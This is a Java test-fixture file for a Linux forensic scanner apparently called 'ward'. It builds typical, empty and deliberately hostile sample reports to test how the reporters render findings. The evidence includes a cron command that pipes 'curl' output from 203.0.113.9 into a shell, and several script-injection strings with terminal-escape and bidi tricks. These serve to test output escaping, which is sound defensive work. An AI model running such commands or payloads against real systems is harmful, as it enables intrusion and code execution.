package dev.ward.report;

import dev.ward.model.CollectionError;
import dev.ward.model.Finding;
import dev.ward.model.Severity;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** Reports to feed the reporters: a typical run, an empty one, and one full of hostile names. */
final class SampleReports {
    static final Instant STARTED = Instant.parse("2025-03-01T10:15:30.123Z");
    static final Instant FINISHED = Instant.parse("2025-03-01T10:15:33.456Z");
    static final String MALICIOUS_TITLE = "<img src=x onerror=alert(1)>";
    /** As HostPath.display() prints a name holding byte 0xff and a newline, plus markup. */
    static final String ESCAPED_PATH = "/tmp/\\xff\\n</script><script>alert(2)</script>";

    private SampleReports() {
    }

    static Report typical() {
        Finding uid0 = Finding.builder("linux.accounts.uid0_non_root", Severity.CRITICAL, "UID 0 account other than root")
                .summary("Account toor in /etc/passwd has user id 0, so it is root under another name.")
                .evidence("user", "toor").evidence("uid", 0).evidence("line", 12)
                .path("/etc/passwd").attack("T1136.001")
                .remediation("Lock the account with usermod -L toor, find out who added it and when, "
                        + "and look for what it was used for in auth.log and wtmp.")
                .build();
        Finding cron = Finding.builder("linux.cron.download_and_run", Severity.HIGH, "Cron job downloads and runs code")
                .summary("A cron job fetches a script from the network and pipes it to a shell every five minutes.")
                .evidence("command", "curl -fsSL http://203.0.113.9/x.sh | sh").evidence("schedule", "*/5 * * * *")
                .evidence("source_ip", "203.0.113.9").evidence("user", "www-data")
                .path("/etc/cron.d/updater").attack("T1053.003").remediation("Quarantine the file.")
                .build();
        Map<String, Object> maps = new LinkedHashMap<>();
        maps.put("start", "7f3a00000000");
        maps.put("perms", "r-xp");
        Finding deleted = Finding.builder("linux.procs.deleted_exe", Severity.HIGH, "Process runs a deleted executable")
                .summary("The program file was deleted after start, a common way to hide.\nIt is still running.")
                .evidence("exe", "/tmp/.cache/systemd-private-0123456789abcdef0123456789abcdef-kworker (deleted)")
                .evidence("maps", List.of(maps)).evidence("threads", 3).evidence("rss_kib", 10240.5)
                .evidence("cmdline", List.of("[kworker/0:1]")).evidence("uid", 33).evidence("extra", true)
                .path("/tmp/.cache/systemd-private-0123456789abcdef0123456789abcdef-kworker").pid(4242)
                .attack("T1070.004").remediation("Collect the process memory before killing it.")
                .build();
        Finding info = Finding.builder("linux.ssh.root_login", Severity.INFO, "Root may log in over SSH")
                .path("/etc/ssh/sshd_config").build();
        Changes changes = new Changes(
                List.of(new Change("/etc/cron.d/updater", List.of(), Map.of(), ordered("sha256", "ab12", "size", 61))),
                List.of(new Change("/usr/bin/last", List.of(), Map.of("size", 22000), Map.of())),
                List.of(new Change("/etc/passwd", List.of("sha256", "mtime"), ordered("sha256", "aa", "mtime", "2024"),
                        ordered("sha256", "bb", "mtime", "2025"))));
        List<CollectionError> errors = List.of(
                new CollectionError("linux.procs", "/proc/1/exe", "permission denied"),
                new CollectionError("logs.auth", "", "no auth.log or secure found"));
        Map<String, Object> stats = ordered("checks", 42, "files", 1234, "seconds", 3.333);
        return new Report("ward", "0.1.0", "web01", "/", STARTED, FINISHED, List.of(info, deleted, uid0, cron),
                changes, errors, stats, Map.of());
    }

    static Report empty() {
        return new Report("ward", "0.1.0", "web01", "/mnt/evidence", STARTED, FINISHED, List.of(),
                Changes.NONE, List.of(), Map.of(), ordered("logins", ordered("root", 2, "alice", 5)));
    }

    static Report malicious() {
        Finding evil = Finding.builder("linux.files.hostile_name", Severity.HIGH, MALICIOUS_TITLE)
                .summary("Summary with an escape \u001b[2J and a bidi override \u202etxt.sh")
                .evidence("<b>key</b>", "<script>alert(3)</script>").evidence("note", "a & b \"quoted\" 'single'")
                .path(ESCAPED_PATH).path("/tmp/raw\nnewline")
                .remediation("</script><!-- never closes")
                .build();
        Finding cron = Finding.builder("linux.cron.download_and_run", Severity.MEDIUM, "Cron job downloads code")
                .path("/etc/cron.d/" + MALICIOUS_TITLE).build();
        Finding low = Finding.builder("linux.accounts.empty_password", Severity.LOW, "Account with an empty password")
                .path("/etc/shadow").build();
        return new Report("ward", "0.1.0", "<b>host</b>", "/", STARTED, FINISHED, List.of(evil, cron, low),
                new Changes(List.of(new Change(ESCAPED_PATH, List.of(), Map.of(), Map.of())), List.of(), List.of()),
                List.of(new CollectionError("x<y>", ESCAPED_PATH, "<i>denied</i>")), Map.of(), Map.of());
    }

    /** Keys in the order given, as a detector builds them. */
    static Map<String, Object> ordered(Object... keysAndValues) {
        Map<String, Object> m = new LinkedHashMap<>();
        for (int i = 0; i < keysAndValues.length; i += 2) {
            m.put((String) keysAndValues[i], keysAndValues[i + 1]);
        }
        return m;
    }

    static String render(Reporter reporter, Report report) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try {
            reporter.write(report, out);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toString(StandardCharsets.UTF_8);
    }
}
